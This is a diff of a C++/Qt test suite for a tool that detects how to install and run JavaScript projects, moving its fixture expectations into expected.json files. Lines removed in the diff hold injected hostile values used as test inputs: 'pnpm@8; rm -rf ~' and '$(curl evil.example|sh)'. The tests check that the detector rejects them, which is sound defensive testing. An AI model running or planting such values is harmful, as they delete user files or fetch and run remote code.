@@ -1,4 +1,5 @@
-// RunPlanDetector and ProjectSnapshot: one fixture repository per row (tests/fixtures/detect/<case>),
+// RunPlanDetector and ProjectSnapshot: one row per fixture repository in tests/fixtures/detect, each
+// checked against the expected.json beside its files (the format: tests/fixtures/detect/README.md),
 // plus hostile inputs generated at run time and the embedded static server run for real with node.
 
 #include "core/ProjectSnapshot.h"
@@ -6,6 +7,8 @@
 
 #include <QDir>
 #include <QFile>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
 #include <QRegularExpression>
 #include <QStandardPaths>
@@ -20,9 +23,14 @@ using forge::RunPlanDetector;
 
 namespace {
 
+QString fixturesRoot()
+{
+    return QStringLiteral(FORGE_FIXTURES_DIR) + u"/detect"_s;
+}
+
 QString fixturePath(const QString& name)
 {
-    return QStringLiteral(FORGE_FIXTURES_DIR) + u"/detect/"_s + name;
+    return fixturesRoot() + u'/' + name;
 }
 
 // "npm run dev -- --port ${PORT}" -> argv; "@static:<root>" / "@spa:<root>" -> the static server.
@@ -55,7 +63,188 @@ std::variant<RunPlan, DetectionError> detectIn(const QString& root)
     return RunPlanDetector::detect(ProjectSnapshot::fromDirectory(root));
 }
 
-const QString Vite = u"Vite 5.4.12/6.0.9"_s;
+// What expected.json asks of a plan; an absent key expects an empty value.
+struct PlanExpectation
+{
+    QString packageManager;
+    QString framework;
+    QString variant;
+    QString install;
+    QString fallback;
+    QString dev;
+    QString build;
+    QString start;
+    QMap<QString, QString> environment;
+    int port = 0;
+    QString directory;
+    QString nodeVersion;
+    QString note; // a fragment one of the notes must contain; empty: no check
+};
+
+// What expected.json asks of a refusal: fragments of the error's message and advice.
+struct ErrorExpectation
+{
+    QString message;
+    QString advice;
+};
+
+using Expectation = std::variant<PlanExpectation, ErrorExpectation>;
+
+const QStringList PlanKeys{u"about"_s,       u"packageManager"_s,  u"framework"_s, u"frameworkVariant"_s,
+                           u"install"_s,     u"installFallback"_s, u"dev"_s,       u"build"_s,
+                           u"start"_s,       u"environment"_s,     u"port"_s,      u"projectDirectory"_s,
+                           u"nodeVersion"_s, u"noteContains"_s};
+const QStringList ErrorKeys{u"about"_s, u"errorContains"_s, u"adviceContains"_s};
+
+// Reads the fields of one expected.json and collects every problem, so that a typo in a key or a
+// value of the wrong type fails the row instead of silently expecting an empty value.
+class ExpectationFields
+{
+public:
+    explicit ExpectationFields(QJsonObject object)
+        : m_object(std::move(object))
+    {}
+
+    QString text(const QString& key, bool required = false)
+    {
+        const QJsonValue value = m_object.value(key);
+        if (value.isUndefined() && required)
+            m_problems.append(u"\"%1\" is missing"_s.arg(key));
+        else if (!value.isUndefined() && !value.isString())
+            m_problems.append(u"\"%1\" must be a string"_s.arg(key));
+        return value.toString();
+    }
+
+    int port()
+    {
+        const QJsonValue value = m_object.value(u"port"_s);
+        const int port = value.toInt(-1); // -1 for a fraction or a non-number as well
+        if (port <= 0 || port > 65535)
+            m_problems.append(u"\"port\" must be a port number"_s);
+        return port;
+    }
+
+    QMap<QString, QString> environment()
+    {
+        QMap<QString, QString> environment;
+        const QJsonValue value = m_object.value(u"environment"_s);
+        if (value.isUndefined())
+            return environment;
+        if (!value.isObject())
+            m_problems.append(u"\"environment\" must be an object"_s);
+        const QJsonObject object = value.toObject();
+        for (auto it = object.begin(); it != object.end(); ++it) {
+            if (!it.value().isString())
+                m_problems.append(u"\"environment\" → \"%1\" must be a string"_s.arg(it.key()));
+            environment.insert(it.key(), it.value().toString());
+        }
+        return environment;
+    }
+
+    void rejectKeysBut(const QStringList& known)
+    {
+        for (const QString& key : m_object.keys()) {
+            if (!known.contains(key))
+                m_problems.append(u"unknown key \"%1\" (known here: %2)"_s.arg(key, known.join(u", "_s)));
+        }
+    }
+
+    const QStringList& problems() const { return m_problems; }
+
+private:
+    QJsonObject m_object;
+    QStringList m_problems;
+};
+
+PlanExpectation readPlanExpectation(ExpectationFields& fields)
+{
+    PlanExpectation plan;
+    plan.packageManager = fields.text(u"packageManager"_s, true);
+    plan.framework = fields.text(u"framework"_s, true);
+    plan.variant = fields.text(u"frameworkVariant"_s);
+    plan.install = fields.text(u"install"_s);
+    plan.fallback = fields.text(u"installFallback"_s);
+    plan.dev = fields.text(u"dev"_s);
+    plan.build = fields.text(u"build"_s);
+    plan.start = fields.text(u"start"_s);
+    plan.environment = fields.environment();
+    plan.port = fields.port();
+    plan.directory = fields.text(u"projectDirectory"_s);
+    plan.nodeVersion = fields.text(u"nodeVersion"_s);
+    plan.note = fields.text(u"noteContains"_s);
+    fields.rejectKeysBut(PlanKeys);
+    return plan;
+}
+
+// The fixture's expectation, or why expected.json cannot say one (missing, not JSON, malformed).
+std::variant<Expectation, QString> readExpectation(const QString& folder)
+{
+    QFile file(folder + u"/expected.json"_s);
+    if (!file.open(QIODevice::ReadOnly))
+        return u"%1: %2 (every fixture folder needs one)"_s.arg(file.fileName(), file.errorString());
+    QJsonParseError parseError;
+    const QJsonDocument document = QJsonDocument::fromJson(file.readAll(), &parseError);
+    if (parseError.error != QJsonParseError::NoError)
+        return u"%1: not valid JSON: %2 at offset %3"_s.arg(file.fileName(), parseError.errorString())
+            .arg(parseError.offset);
+    if (!document.isObject())
+        return u"%1: the top level must be an object"_s.arg(file.fileName());
+
+    ExpectationFields fields(document.object());
+    (void)fields.text(u"about"_s);
+    Expectation expectation;
+    if (document.object().contains(u"errorContains"_s)) {
+        expectation =
+            ErrorExpectation{fields.text(u"errorContains"_s, true), fields.text(u"adviceContains"_s, true)};
+        fields.rejectKeysBut(ErrorKeys);
+    } else {
+        expectation = readPlanExpectation(fields);
+    }
+    if (!fields.problems().isEmpty())
+        return u"%1: %2"_s.arg(file.fileName(), fields.problems().join(u"; "_s));
+    return expectation;
+}
+
+void comparePlan(const std::variant<RunPlan, DetectionError>& result, const PlanExpectation& expected)
+{
+    if (const auto* error = std::get_if<DetectionError>(&result))
+        QFAIL(qPrintable(u"detection refused: "_s + error->message));
+    const RunPlan& plan = std::get<RunPlan>(result);
+
+    QCOMPARE(toString(plan.packageManager), expected.packageManager);
+    QCOMPARE(toString(plan.framework), expected.framework);
+    QCOMPARE(plan.frameworkVariant, expected.variant);
+    QCOMPARE(plan.installCommand, command(expected.install));
+    QCOMPARE(plan.installFallbackCommand, command(expected.fallback));
+    QCOMPARE(plan.devCommand, command(expected.dev));
+    QCOMPARE(plan.buildCommand, command(expected.build));
+    QCOMPARE(plan.startCommand, command(expected.start));
+    QCOMPARE(environmentText(plan.environment), environmentText(expected.environment));
+    QCOMPARE(plan.expectedPort, expected.port);
+    QCOMPARE(plan.projectDirectory, expected.directory);
+    QCOMPARE(plan.nodeVersion, expected.nodeVersion);
+    if (!expected.note.isEmpty()) {
+        const bool found = std::any_of(plan.notes.begin(), plan.notes.end(),
+                                       [&](const QString& n) { return n.contains(expected.note); });
+        QVERIFY2(found,
+                 qPrintable(u"no note contains \"%1\" in:\n%2"_s.arg(expected.note, plan.notes.join(u'\n'))));
+    }
+    // Every plan that runs something binds all interfaces on the chosen port.
+    const QString everything = (plan.devCommand + plan.environment.values()).join(u' ');
+    QVERIFY(everything.contains(u"${PORT}"_s));
+    // The plan survives saving and loading unchanged.
+    const std::optional<RunPlan> loaded = RunPlan::fromJson(plan.toJson());
+    QVERIFY(loaded && *loaded == plan);
+}
+
+void compareError(const std::variant<RunPlan, DetectionError>& result, const ErrorExpectation& expected)
+{
+    const auto* error = std::get_if<DetectionError>(&result);
+    if (!error)
+        QFAIL(qPrintable(u"detected a plan: "_s + std::get<RunPlan>(result).summary()));
+    QVERIFY2(error->message.contains(expected.message), qPrintable(error->message));
+    QVERIFY2(error->advice.contains(expected.advice), qPrintable(error->advice));
+}
 
 } // namespace
 
@@ -66,8 +255,6 @@ class TestRunPlanDetector : public QObject
 private slots:
     void detectsFixture_data();
     void detectsFixture();
-    void reportsBrokenInput_data();
-    void reportsBrokenInput();
     void oversizePackageJsonIsAnError();
     void symlinkOutOfRootIsNotRead();
     void workspaceSymlinksAreNotFollowed();
@@ -80,281 +267,33 @@ private slots:
 void TestRunPlanDetector::detectsFixture_data()
 {
     QTest::addColumn<QString>("fixture");
-    QTest::addColumn<QString>("packageManager");
-    QTest::addColumn<QString>("framework");
-    QTest::addColumn<QString>("variant");
-    QTest::addColumn<QString>("install");
-    QTest::addColumn<QString>("fallback");
-    QTest::addColumn<QString>("dev");
-    QTest::addColumn<QString>("build");
-    QTest::addColumn<QString>("start");
-    QTest::addColumn<QString>("environment");
-    QTest::addColumn<int>("port");
-    QTest::addColumn<QString>("directory");
-    QTest::addColumn<QString>("nodeVersion");
-    QTest::addColumn<QString>("note"); // a fragment one of the notes must contain; empty: no check
-
-    const QString crEnv = u"BROWSER=none,HOST=0.0.0.0,PORT=${PORT}"_s;
-    const QString nodeEnv = u"HOST=0.0.0.0,PORT=${PORT}"_s;
-
-    // clang-format off
-    QTest::newRow("npm, Vite React")
-        << u"npm-vite-react"_s << u"npm"_s << u"vite"_s << u"React"_s
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run dev -- --host 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
-        << u"npm run preview -- --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << Vite;
-    QTest::newRow("pnpm, Next.js")
-        << u"pnpm-next"_s << u"pnpm"_s << u"nextjs"_s << QString()
-        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
-        << u"pnpm run dev -H 0.0.0.0 -p ${PORT}"_s << u"pnpm run build"_s
-        << u"pnpm run start -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << QString() << QString() << QString();
-    QTest::newRow("yarn classic, Create React App")
-        << u"yarn-classic-cra"_s << u"yarn-classic"_s << u"create-react-app"_s << QString()
-        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
-        << u"yarn run start"_s << u"yarn run build"_s << u"@spa:build"_s << crEnv << 3000 << QString() << QString()
-        << QString();
-    QTest::newRow("yarn berry (.yarnrc.yml), SvelteKit beats Vite")
-        << u"yarn-berry-sveltekit"_s << u"yarn-berry"_s << u"sveltekit"_s << QString()
-        << u"yarn install --immutable"_s << u"yarn install"_s
-        << u"yarn run dev --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
-        << u"yarn run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << Vite;
-    QTest::newRow("yarn berry (packageManager yarn@4), Vite Vue")
-        << u"yarn-berry-packagemanager-vue"_s << u"yarn-berry"_s << u"vite"_s << u"Vue"_s
-        << u"yarn install --immutable"_s << u"yarn install"_s
-        << u"yarn run dev --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
-        << u"yarn run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << QString();
-    QTest::newRow("yarn berry (__metadata in yarn.lock), Vite Solid, start/serve scripts")
-        << u"yarn-berry-lock-metadata"_s << u"yarn-berry"_s << u"vite"_s << u"Solid"_s
-        << u"yarn install --immutable"_s << u"yarn install"_s
-        << u"yarn run start --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
-        << u"yarn run serve --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << QString();
-    QTest::newRow("bun (bun.lockb), Astro")
-        << u"bun-astro"_s << u"bun"_s << u"astro"_s << QString()
-        << u"bun install --frozen-lockfile"_s << u"bun install"_s
-        << u"bun run dev --host 0.0.0.0 --port ${PORT}"_s << u"bun run build"_s
-        << u"bun run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 4321 << QString() << QString() << Vite;
-    QTest::newRow("bun (bun.lock), Vite Svelte, no preview script")
-        << u"bun-lock-vite-svelte"_s << u"bun"_s << u"vite"_s << u"Svelte"_s
-        << u"bun install --frozen-lockfile"_s << u"bun install"_s
-        << u"bun run dev --host 0.0.0.0 --port ${PORT}"_s << u"bun run build"_s
-        << u"bun run vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
-        << u"No script runs `vite preview`"_s;
-    QTest::newRow("packageManager pnpm overrides package-lock.json")
-        << u"packagemanager-overrides-lockfile"_s << u"pnpm"_s << u"vite"_s << u"Preact"_s
-        << u"pnpm install"_s << QString()
-        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
-        << u"pnpm run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
-        << u"wins over the lockfile of npm"_s;
-    QTest::newRow("hostile packageManager ignored, hostile dev script not used")
-        << u"hostile-packagemanager"_s << u"npm"_s << u"nextjs"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm exec -- next dev -H 0.0.0.0 -p ${PORT}"_s << u"npm run build"_s
-        << u"npm run start -- -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << QString() << QString()
-        << u"Ignored the packageManager field \"pnpm@8; rm -rf ~\""_s;
-    QTest::newRow("npm without lockfile, Express")
-        << u"npm-express-no-lockfile"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString()
-        << u"npm run dev"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
-        << u"PORT and HOST"_s;
-    QTest::newRow("npm-shrinkwrap.json, Fastify start script")
-        << u"npm-shrinkwrap-fastify"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
-        << QString();
-    QTest::newRow("Koa with main and no scripts: node <main>")
-        << u"express-main-no-scripts"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString()
-        << u"node src/server.js"_s << QString() << u"node src/server.js"_s << nodeEnv << 3000 << QString()
-        << QString() << QString();
-    QTest::newRow("plain start script running node")
-        << u"generic-start-script"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
-        << u"No known framework"_s;
-    QTest::newRow("Nuxt 3, pnpm")
-        << u"nuxt3-pnpm"_s << u"pnpm"_s << u"nuxt"_s << QString()
-        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
-        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
-        << u"node .output/server/index.mjs"_s << nodeEnv << 3000 << QString() << QString() << QString();
-    QTest::newRow("Nuxt 2 takes --hostname")
-        << u"nuxt2"_s << u"npm"_s << u"nuxt"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run dev -- --hostname 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
-        << u"npm run start -- --hostname 0.0.0.0 --port ${PORT}"_s << nodeEnv << 3000 << QString() << QString()
-        << QString();
-    QTest::newRow("Angular (application builder output)")
-        << u"angular"_s << u"npm"_s << u"angular"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run start -- --host 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
-        << u"@spa:dist/shop/browser"_s << QString() << 4200 << QString() << QString() << u"Host header"_s;
-    QTest::newRow("Vue CLI, yarn classic")
-        << u"vue-cli"_s << u"yarn-classic"_s << u"vue-cli"_s << QString()
-        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
-        << u"yarn run serve --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s << u"@spa:dist"_s
-        << QString() << 8080 << QString() << QString() << QString();
-    QTest::newRow("Vite Lit without scripts: exec the CLI")
-        << u"vite-lit-no-scripts"_s << u"npm"_s << u"vite"_s << u"Lit"_s
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm exec -- vite --host 0.0.0.0 --port ${PORT}"_s << u"npm exec -- vite build"_s
-        << u"npm exec -- vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
-        << u"No script runs `vite`"_s;
-    QTest::newRow("static HTML, no package.json")
-        << u"static-html"_s << u"none"_s << u"static-html"_s << QString()
-        << QString() << QString() << u"@static:."_s << QString() << u"@static:."_s << QString() << 8080
-        << QString() << QString() << QString();
-    QTest::newRow("static HTML, package.json with nothing runnable")
-        << u"static-html-with-package-json"_s << u"none"_s << u"static-html"_s << QString()
-        << QString() << QString() << u"@static:."_s << QString() << u"@static:."_s << QString() << 8080
-        << QString() << QString() << u"serving index.html"_s;
-    QTest::newRow("monorepo, npm workspaces, apps/web")
-        << u"monorepo-npm-workspaces"_s << u"npm"_s << u"nextjs"_s << QString()
-        << u"npm ci"_s << u"npm install"_s
-        << u"npm run dev -- -H 0.0.0.0 -p ${PORT}"_s << u"npm run build"_s
-        << u"npm run start -- -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << u"apps/web"_s << u"lts/iron"_s
-        << u"Monorepo: using the workspace package apps/web"_s;
-    QTest::newRow("monorepo, pnpm-workspace.yaml, apps/* before packages/*")
-        << u"monorepo-pnpm-workspace"_s << u"pnpm"_s << u"vite"_s << u"Vue"_s
-        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
-        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
-        << u"pnpm exec vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << u"apps/site"_s
-        << u">=20"_s << u"Other runnable packages: packages/dashboard"_s;
-    QTest::newRow("monorepo, workspaces object, yarn classic, CRA package")
-        << u"monorepo-workspaces-object"_s << u"yarn-classic"_s << u"create-react-app"_s << QString()
-        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
-        << u"yarn run start"_s << u"yarn run build"_s << u"@spa:build"_s << crEnv << 3000 << u"packages/app"_s
-        << QString() << u"packages/app"_s;
-    QTest::newRow("UTF-8 BOM accepted")
-        << u"bom"_s << u"pnpm"_s << u"vite"_s << u"Vanilla"_s
-        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
-        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm exec vite build"_s
-        << u"pnpm exec vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
-        << QString();
-    QTest::newRow("Node version: .nvmrc first")
-        << u"node-version-nvmrc"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
-        << QString() << u"v20.11.1"_s << QString();
-    QTest::newRow("Node version: .node-version before volta")
-        << u"node-version-file"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
-        << QString() << u"18.19.0"_s << QString();
-    QTest::newRow("Node version: engines.node before volta.node")
-        << u"node-version-engines"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
-        << QString() << u">=18.17 <21"_s << QString();
-    QTest::newRow("Node version: volta.node")
-        << u"node-version-volta"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
-        << QString() << u"20.10.0"_s << QString();
-    QTest::newRow("Node version: hostile .nvmrc ignored")
-        << u"node-version-invalid"_s << u"npm"_s << u"node-server"_s << QString()
-        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
-        << QString() << u"20.x"_s << u"Ignored the Node.js version \"$(curl evil.example|sh)\" from .nvmrc"_s;
-    // clang-format on
+    const QStringList folders =
+        QDir(fixturesRoot()).entryList(QDir::Dirs | QDir::NoDotAndDotDot | QDir::Hidden, QDir::Name);
+    // A moved or empty fixtures folder must fail, not pass with no rows.
+    if (folders.isEmpty())
+        QTest::newRow("no fixture folders") << u"(none in %1)"_s.arg(fixturesRoot());
+    for (const QString& folder : folders)
+        QTest::newRow(qPrintable(folder)) << folder;
 }
 
 void TestRunPlanDetector::detectsFixture()
 {
     QFETCH(QString, fixture);
-    QFETCH(QString, packageManager);
-    QFETCH(QString, framework);
-    QFETCH(QString, variant);
-    QFETCH(QString, install);
-    QFETCH(QString, fallback);
-    QFETCH(QString, dev);
-    QFETCH(QString, build);
-    QFETCH(QString, start);
-    QFETCH(QString, environment);
-    QFETCH(int, port);
-    QFETCH(QString, directory);
-    QFETCH(QString, nodeVersion);
-    QFETCH(QString, note);
+    const QString folder = fixturePath(fixture);
+    QVERIFY2(QFileInfo(folder).isDir(), qPrintable(folder));
+    const auto expectation = readExpectation(folder);
+    if (const auto* problem = std::get_if<QString>(&expectation))
+        QFAIL(qPrintable(*problem));
 
-    QVERIFY2(QFileInfo(fixturePath(fixture)).isDir(), qPrintable(fixturePath(fixture)));
-    const auto result = detectIn(fixturePath(fixture));
-    if (const auto* error = std::get_if<DetectionError>(&result))
-        QFAIL(qPrintable(error->message));
-    const RunPlan& plan = std::get<RunPlan>(result);
-
-    QCOMPARE(toString(plan.packageManager), packageManager);
-    QCOMPARE(toString(plan.framework), framework);
-    QCOMPARE(plan.frameworkVariant, variant);
-    QCOMPARE(plan.installCommand, command(install));
-    QCOMPARE(plan.installFallbackCommand, command(fallback));
-    QCOMPARE(plan.devCommand, command(dev));
-    QCOMPARE(plan.buildCommand, command(build));
-    QCOMPARE(plan.startCommand, command(start));
-    QCOMPARE(environmentText(plan.environment), environment);
-    QCOMPARE(plan.expectedPort, port);
-    QCOMPARE(plan.projectDirectory, directory);
-    QCOMPARE(plan.nodeVersion, nodeVersion);
-    if (!note.isEmpty()) {
-        const bool found = std::any_of(plan.notes.begin(), plan.notes.end(),
-                                       [&](const QString& n) { return n.contains(note); });
-        QVERIFY2(found, qPrintable(u"no note contains \"%1\" in:\n%2"_s.arg(note, plan.notes.join(u'\n'))));
-    }
-    // Every plan that runs something binds all interfaces on the chosen port.
-    const QString everything = (plan.devCommand + plan.environment.values()).join(u' ');
-    QVERIFY(everything.contains(u"${PORT}"_s));
-    // The plan survives saving and loading unchanged.
-    const std::optional<RunPlan> loaded = RunPlan::fromJson(plan.toJson());
-    QVERIFY(loaded && *loaded == plan);
-}
-
-void TestRunPlanDetector::reportsBrokenInput_data()
-{
-    QTest::addColumn<QString>("fixture");
-    QTest::addColumn<QString>("message");
-    QTest::addColumn<QString>("advice");
-
-    const QString fix = u"Fix package.json"_s;
-    QTest::newRow("nothing at all") << u"nothing-runnable"_s
-                                    << u"Nothing runnable found in the repository root"_s
-                                    << u"looks for a package.json"_s;
-    QTest::newRow("library without scripts or index.html")
-        << u"library-only"_s << u"Nothing runnable found in the repository root: package.json has no"_s
-        << u"index.html"_s;
-    QTest::newRow("monorepo without runnable package")
-        << u"monorepo-nothing-runnable"_s << u"Nothing runnable found in the monorepo root"_s
-        << u"workspace package"_s;
-    QTest::newRow("invalid JSON, with position")
-        << u"broken-json"_s
-        << u"package.json: not valid JSON: object is missing after a comma at line 3, column 32"_s << fix;
-    QTest::newRow("empty file") << u"empty-package-json"_s << u"package.json: the file is empty."_s << fix;
-    QTest::newRow("array at top level")
-        << u"top-level-array"_s << u"package.json: the top level must be a JSON object, found an array."_s
-        << fix;
-    QTest::newRow("scripts is an array")
-        << u"wrong-type-scripts"_s
-        << u"package.json: \"scripts\" must be an object mapping names to commands, found an array."_s << fix;
-    QTest::newRow("dependencies is an array")
-        << u"wrong-type-dependencies"_s
-        << u"package.json: \"dependencies\" must be an object mapping names to version ranges, found an array."_s
-        << fix;
-    QTest::newRow("name is a number")
-        << u"wrong-type-name"_s << u"package.json: \"name\" must be a string, found a number."_s << fix;
-    QTest::newRow("script value is an object")
-        << u"wrong-type-script-value"_s
-        << u"package.json: \"scripts\" → \"dev\" must be a string (a command), found an object."_s << fix;
-    QTest::newRow("engines is a string")
-        << u"wrong-type-engines"_s << u"package.json: \"engines\" must be an object, found a string."_s
-        << fix;
-    QTest::newRow("nesting deeper than QJsonDocument accepts")
-        << u"deep-nesting"_s << u"package.json: the JSON is nested too deeply"_s << fix;
-}
-
-void TestRunPlanDetector::reportsBrokenInput()
-{
-    QFETCH(QString, fixture);
-    QFETCH(QString, message);
-    QFETCH(QString, advice);
-
-    QVERIFY2(QFileInfo(fixturePath(fixture)).isDir(), qPrintable(fixturePath(fixture)));
-    const auto result = detectIn(fixturePath(fixture));
-    const auto* error = std::get_if<DetectionError>(&result);
-    if (!error)
-        QFAIL(qPrintable(u"detected a plan: "_s + std::get<RunPlan>(result).summary()));
-    QVERIFY2(error->message.contains(message), qPrintable(error->message));
-    QVERIFY2(error->advice.contains(advice), qPrintable(error->advice));
+    // expected.json lies among the fixture's files; detection must not read it.
+    const ProjectSnapshot snapshot = ProjectSnapshot::fromDirectory(folder);
+    QVERIFY(!snapshot.contains(u"expected.json"_s));
+    const auto result = RunPlanDetector::detect(snapshot);
+    const Expectation& expected = std::get<Expectation>(expectation);
+    if (const auto* plan = std::get_if<PlanExpectation>(&expected))
+        comparePlan(result, *plan);
+    else
+        compareError(result, std::get<ErrorExpectation>(expected));
 }
 
 void TestRunPlanDetector::oversizePackageJsonIsAnError()
